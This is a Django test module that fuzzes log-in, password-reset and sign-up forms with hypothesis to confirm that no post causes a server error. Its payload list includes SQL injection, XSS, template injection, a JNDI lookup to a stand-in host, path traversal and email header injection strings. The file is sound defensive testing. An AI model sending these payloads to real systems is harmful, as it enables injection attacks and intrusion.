"""No input to the log-in (admin and portal), password-reset or sign-up forms makes a server
error (issue 15, "Bad input"; ASVS V2.2.1, V16.5): 750 posts drawn by hypothesis, with hostile
values (very long, NUL and control characters, any unicode, SQL and HTML), fields missing,
duplicated or unknown, files where text belongs, and bodies of the wrong type."""

from __future__ import annotations

from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

PASSWORD = "correct horse battery staple"  # UserFactory's
STRONG = "Tobakk-Lisens-2026!"
PAYLOADS = [
    "",
    " ",
    "\x00",
    "kari@example.com\x00",
    "kari@example.com\r\nBcc: victim@example.com",
    "' OR '1'='1' --",
    "admin'; DROP TABLE auth_user; --",
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "\ufeff\u200b",
    "\u017f@example.com",  # a long s: case-folds to "s"
    "KARI@EXAMPLE.COM",
    "kari@example.com",
    PASSWORD,
    "x" * 10_000,
    "a@" + "b" * 300 + ".com",
    "😀" * 500,
    "-1",
    "1e309",
    "nb",
    "zz",
]
TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=300),  # any unicode, control characters included
    st.binary(max_size=100).map(lambda raw: raw.decode("latin-1")),
    st.integers().map(str),
)
# Values a real user sends, so that posts also get past the forms' first checks.
PLAUSIBLE = st.one_of(
    st.emails(),
    st.sampled_from(["kari@example.com", "officer", PASSWORD, STRONG, "nb", "hu", "on"]),
)
# A value, several values for one name (a duplicated field), or a file where text belongs.
VALUE = st.one_of(
    PLAUSIBLE,
    TEXT,
    st.lists(TEXT, min_size=2, max_size=3),
    st.binary(max_size=50).map(lambda raw: SimpleUploadedFile("x.txt", raw)),
)
JUNK = st.sampled_from(["csrfmiddlewaretoken", "next", "this_is_not_a_field", "", "a" * 300])
RAW_TYPES = st.sampled_from(
    [
        "application/json",
        "multipart/form-data; boundary=broken",
        "multipart/form-data",
        "application/x-www-form-urlencoded",
        "text/plain",
    ]
)
FUZZ = settings(
    max_examples=250,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def form_data(fields: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    """Any subset of the form's fields (so some missing), each with a hostile value, plus
    unknown ones."""
    known = st.fixed_dictionaries({}, optional={name: VALUE for name in fields})
    extra = st.dictionaries(JUNK, VALUE, max_size=2)
    return st.builds(lambda a, b: {**b, **a}, known, extra)


@pytest.fixture
def world(settings: Any) -> None:
    """A portal user and an officer to aim at; limits high enough that most posts reach the
    forms (429 is allowed, but would leave the forms untested)."""
    settings.RATE_LIMITS = {group: (100_000, 60) for group in settings.RATE_LIMITS}
    UserFactory(username="kari@example.com", email="kari@example.com", is_staff=False)
    UserFactory(username="officer", email="officer@authority.example", role="licence officer")


def post(url: str, data: dict[str, Any], raw: bytes | None, content_type: str) -> int:
    client = Client()  # CSRF not enforced: the forms' own handling is what is under test
    if raw is not None:
        return client.post(url, data=raw, content_type=content_type).status_code
    return client.post(url, data).status_code


RAW = st.one_of(st.none(), st.binary(max_size=300))
# Whole forms a user could send, one field at a time made hostile.
LOG_IN = st.one_of(
    form_data(["username", "password", "remember", "next"]),
    st.fixed_dictionaries(
        {
            "username": st.sampled_from(["kari@example.com", "KARI@example.com ", "officer"]),
            "password": st.one_of(st.just(PASSWORD), TEXT),
        },
        optional={"remember": VALUE, "next": VALUE},
    ),
)
SIGN_UP = st.one_of(
    form_data(["email", "password1", "password2", "language"]),
    st.builds(
        lambda email, password, language: {
            "email": email,
            "password1": password,
            "password2": password,
            "language": language,
        },
        st.one_of(st.emails(), TEXT),
        st.one_of(st.just(STRONG), TEXT),
        st.one_of(st.sampled_from(["en", "nb", "hu"]), TEXT),
    ),
)


@FUZZ
@given(
    which=st.sampled_from(["admin:login", "portal:login"]),
    data=LOG_IN,
    raw=RAW,
    content_type=RAW_TYPES,
)
def test_no_log_in_post_makes_a_server_error(world, which, data, raw, content_type):
    status = post(reverse(which), data, raw, content_type)
    assert status < 500, (which, data, raw, status)


@FUZZ
@given(data=form_data(["email"]), raw=RAW, content_type=RAW_TYPES)
def test_no_password_reset_post_makes_a_server_error(world, data, raw, content_type):
    status = post(reverse("portal:password_reset"), data, raw, content_type)
    assert status < 500, (data, raw, status)


@FUZZ
@given(
    data=SIGN_UP,
    raw=RAW,
    content_type=RAW_TYPES,
)
def test_no_sign_up_post_makes_a_server_error(world, data, raw, content_type):
    status = post(reverse("portal:signup"), data, raw, content_type)
    assert status < 500, (data, raw, status)
